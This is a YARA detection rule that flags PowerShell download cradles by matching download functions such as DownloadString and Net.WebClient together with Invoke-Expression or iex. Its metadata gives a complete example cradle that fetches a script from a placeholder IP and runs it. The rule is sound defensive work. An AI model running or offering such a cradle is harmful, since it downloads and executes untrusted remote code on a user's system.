rule powershell_download_cradle : behavior
{
    meta:
        description = "PowerShell that downloads code and runs it in one go (download cradle)"
        severity = "high"
        kind = "behavior"
        example_match = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\""
        example_benign = "Invoke-WebRequest -Uri https://example.org/data.json -OutFile data.json"
    strings:
        $dl1 = "DownloadString" ascii wide nocase
        $dl2 = "DownloadFile" ascii wide nocase
        $dl3 = "Invoke-WebRequest" ascii wide nocase
        $dl4 = "Net.WebClient" ascii wide nocase
        $dl5 = "Start-BitsTransfer" ascii wide nocase
        $dl6 = /\biwr\s+(-uri\s+)?['"]?https?:/ ascii wide nocase
        $ex1 = "Invoke-Expression" ascii wide nocase
        $ex2 = /\biex\s*[(\s]/ ascii wide nocase
        $ex3 = /\|\s*iex\b/ ascii wide nocase
    condition:
        any of ($dl*) and any of ($ex*)
}
